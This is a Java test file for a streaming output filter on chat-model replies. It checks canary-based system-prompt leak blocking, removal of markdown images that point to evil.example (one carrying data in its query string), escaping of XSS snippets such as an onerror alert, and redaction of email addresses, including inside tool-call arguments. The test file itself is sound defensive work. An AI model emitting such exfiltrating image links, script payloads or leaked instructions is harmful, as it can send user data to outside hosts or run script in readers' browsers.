package dev.bulwark.guard.filter;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.bulwark.guard.pipeline.OutputFilter;
import dev.bulwark.guard.pipeline.Route;
import dev.bulwark.guard.pipeline.StreamFilter;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** Canaries and markdown images split across chunks, chunk framing, bounds. */
class StreamedLeakAndMarkupTest {
    private static final String CANARY = "ZQ-CANARY-7Q4P-93KD";
    private static final OutputFilter OUTPUT = Filters.output(Replies.policy(List.of(CANARY)));

    @Test
    void aCanarySplitAnywhereEndsTheStreamBeforeAnyPartOfItIsSent() {
        String reply = "Of course. My instructions begin with the code " + CANARY + " and then list the rules.";
        assertThat(Replies.filterWhole(OUTPUT, reply)).isNull();
        String canarySkeleton = Skeleton.of(CANARY);
        for (int at = 1; at < reply.length(); at++) {
            var streamed = Replies.stream(OUTPUT, Replies.split(reply, at));
            assertThat(streamed.blocked()).as("split at %d", at).isTrue();
            String sent = streamed.content();
            assertThat(sent).endsWith(Refusals.WITHHELD);
            String skeleton = Skeleton.of(sent.substring(0, sent.length() - Refusals.WITHHELD.length()));
            for (int i = 0; i + 6 <= canarySkeleton.length(); i++) {
                assertThat(skeleton).as("split at %d", at).doesNotContain(canarySkeleton.substring(i, i + 6));
            }
            assertThat(streamed.payloads()).last().isEqualTo("[DONE]");
            JsonNode last = Replies.read(streamed.payloads().get(streamed.payloads().size() - 2));
            assertThat(last.at("/choices/0/finish_reason").asText()).isEqualTo("content_filter");
            assertThat(last.path("id").asText()).isEqualTo("chatcmpl-1");
            assertThat(streamed.filter().decisions()).anyMatch(d -> d.detector().equals("canary") && d.action().equals("blocked"));
        }
    }

    @Test
    void aReformattedCanaryIsStillCaught() {
        String reply = "the code is z q - c a n a r y 7q4p\u200b93kd, as requested";
        assertThat(Replies.filterWhole(OUTPUT, reply)).isNull();
        assertThat(Replies.stream(OUTPUT, Replies.split(reply, 20, 31)).blocked()).isTrue();
    }

    @Test
    void anExternalImageSplitAnywhereIsReplacedByItsAltText() {
        String reply = "Here is the chart: ![sales chart](https://evil.example/c.png?d=a3f9 \"t\") and a safe one "
                + "![logo](https://images.example.com/logo.png). Done!";
        String expected = "Here is the chart: sales chart and a safe one ![logo](https://images.example.com/logo.png). Done!";
        assertThat(Replies.filterWhole(OUTPUT, reply)).isEqualTo(expected);
        for (int at = 1; at < reply.length(); at++) {
            assertThat(Replies.stream(OUTPUT, Replies.split(reply, at)).content()).as("split at %d", at).isEqualTo(expected);
        }
    }

    @Test
    void referenceShortcutAndNestedImagesAndHtmlAreNeutralised() {
        var policy = new MarkupPolicy(null, List.of("images.example.com"), null);
        assertThat(MarkupStream.neutralise(policy, "a ![x][ref] b\n\n[ref]: https://evil.example/p.png"))
                .isEqualTo("a x b\n\n[ref]: https://evil.example/p.png");
        assertThat(MarkupStream.neutralise(policy, "![![in](https://evil.example/1)](https://evil.example/2)")).isEqualTo("in");
        assertThat(MarkupStream.neutralise(policy, "![a](//evil.example/x) ![b](/\\evil.example/x) ![c](/img/ok.png)"))
                .isEqualTo("a b ![c](/img/ok.png)");
        assertThat(MarkupStream.neutralise(policy, "hi <img src=x onerror=alert(1)> <b>bold</b> a < b, see <https://example.com>"))
                .isEqualTo("hi &lt;img src=x onerror=alert(1)> &lt;b>bold&lt;/b> a < b, see <https://example.com>");
        assertThat(MarkupStream.neutralise(policy, "`<b>` and\n```html\n<div>![x](https://evil.example/)</div>\n```\n<i>"))
                .isEqualTo("`<b>` and\n```html\n<div>![x](https://evil.example/)</div>\n```\n&lt;i>");
        var strip = new MarkupPolicy(dev.bulwark.guard.config.OutputPolicy.ImageAction.STRIP_ALL, List.of("images.example.com"),
                dev.bulwark.guard.config.OutputPolicy.HtmlAction.STRIP);
        assertThat(MarkupStream.neutralise(strip, "x <script src=\"a>b\">alert(1)</script> <!-- c --> ![l](https://images.example.com/l.png)"))
                .isEqualTo("x alert(1)  l");
    }

    @Test
    void anUnfinishedConstructIsHeldAtMostTheBoundThenTreatedAsText() {
        var stream = new MarkupStream(new MarkupPolicy(null, List.of(), null));
        String out = stream.accept("start <" + "a".repeat(MarkupStream.BOUND * 2));
        assertThat(out).startsWith("start &lt;a");
        assertThat(out.length()).isGreaterThan(MarkupStream.BOUND);
    }

    @Test
    void roleChunksGoOutAtOnceAndIdsAreKept() {
        StreamFilter filter = OUTPUT.stream(Route.CHAT, Set.of());
        List<String> first = filter.onData(Replies.chunk("{\"role\":\"assistant\",\"content\":\"\"}", null));
        assertThat(first).hasSize(1);
        assertThat(Replies.read(first.get(0)).at("/choices/0/delta/role").asText()).isEqualTo("assistant");
        var out = new ArrayList<String>(filter.onData(Replies.chunk(Replies.delta("Hello there, how can I help?"), null)));
        out.addAll(filter.onData(Replies.chunk("{}", "\"stop\"")));
        out.addAll(filter.onData("[DONE]"));
        assertThat(Replies.contentOf(out)).isEqualTo("Hello there, how can I help?");
        assertThat(out).last().isEqualTo("[DONE]");
        for (String p : out.subList(0, out.size() - 1)) {
            assertThat(Replies.read(p).path("model").asText()).isEqualTo("m");
            assertThat(Replies.read(p).path("object").asText()).isEqualTo("chat.completion.chunk");
        }
        assertThat(out.stream().filter(p -> p.contains("\"finish_reason\":\"stop\""))).hasSize(1);
        assertThat(filter.onData(Replies.chunk(Replies.delta("late"), null))).isEmpty();
    }

    @Test
    void nonJsonEndsTheStreamAndChoicesOverTheBoundAreDropped() {
        StreamFilter filter = OUTPUT.stream(Route.CHAT, Set.of());
        String many = "{\"id\":\"x\",\"choices\":[{\"index\":40,\"delta\":{\"content\":\"jane.doe@example.com\"}}]}";
        assertThat(String.join("", filter.onData(many))).doesNotContain("jane");
        // "mail " goes out at once (eager release); the address, still growing when the chunk ended, is held
        List<String> first = filter.onData(Replies.chunk(Replies.delta("mail jane.doe@example.com"), null));
        assertThat(Replies.contentOf(first)).isEqualTo("mail ");
        List<String> end = filter.onData("this is not json");
        assertThat(Replies.contentOf(end)).isEqualTo("<EMAIL>");
        assertThat(end).last().isEqualTo("[DONE]");
        assertThat(filter.decisions()).anyMatch(d -> d.detector().equals("pii") && d.action().equals("redacted"));
    }

    @Test
    void toolCallArgumentsAreRedactedAcrossChunks() {
        StreamFilter filter = OUTPUT.stream(Route.CHAT, Set.of("send"));
        var out = new ArrayList<String>();
        out.addAll(filter.onData(Replies.chunk("{\"role\":\"assistant\",\"tool_calls\":[{\"index\":0,\"id\":\"call_1\","
                + "\"type\":\"function\",\"function\":{\"name\":\"send\",\"arguments\":\"\"}}]}", null)));
        String args = "{\"to\":\"jane.doe@example.com\",\"body\":\"hi\"}";
        for (int i = 0; i < args.length(); i += 5) {
            String piece = args.substring(i, Math.min(args.length(), i + 5));
            out.addAll(filter.onData(Replies.chunk("{\"tool_calls\":[{\"index\":0,\"function\":{\"arguments\":"
                    + Replies.JSON.valueToTree(piece) + "}}]}", null)));
        }
        out.addAll(filter.onData(Replies.chunk("{}", "\"tool_calls\"")));
        var sent = new StringBuilder();
        for (String p : out) {
            for (JsonNode call : Replies.read(p).at("/choices/0/delta/tool_calls")) {
                sent.append(call.at("/function/arguments").asText());
            }
        }
        assertThat(sent.toString()).isEqualTo("{\"to\":\"<EMAIL>\",\"body\":\"hi\"}");
    }

    @Test
    void completionsChunksAreFilteredToo() {
        StreamFilter filter = OUTPUT.stream(Route.COMPLETIONS, Set.of());
        var out = new ArrayList<String>();
        for (String piece : List.of("write to jane.d", "oe@example.com please")) {
            out.addAll(filter.onData("{\"id\":\"c\",\"object\":\"text_completion\",\"choices\":[{\"index\":0,\"text\":"
                    + Replies.JSON.valueToTree(piece) + ",\"finish_reason\":null}]}"));
        }
        out.addAll(filter.finish());
        var text = new StringBuilder();
        for (String p : out) if (!p.equals("[DONE]")) text.append(Replies.read(p).at("/choices/0/text").asText());
        assertThat(text.toString()).isEqualTo("write to <EMAIL> please");
    }
}
